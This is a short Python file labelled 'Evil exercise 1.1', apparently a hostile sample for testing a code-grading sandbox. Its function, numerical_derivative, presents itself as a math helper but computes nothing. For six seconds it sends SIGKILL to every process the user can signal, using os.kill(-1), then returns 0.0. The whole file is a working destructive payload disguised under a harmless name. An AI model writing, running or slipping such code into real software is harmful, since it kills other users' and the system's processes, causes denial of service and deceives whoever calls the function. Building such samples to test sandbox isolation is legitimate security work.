"""Evil exercise 1.1: for its whole time limit, kills every process it may signal."""

import os
import signal
import time


def numerical_derivative(f, x, h=1e-5):
    end = time.monotonic() + 6
    while time.monotonic() < end:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
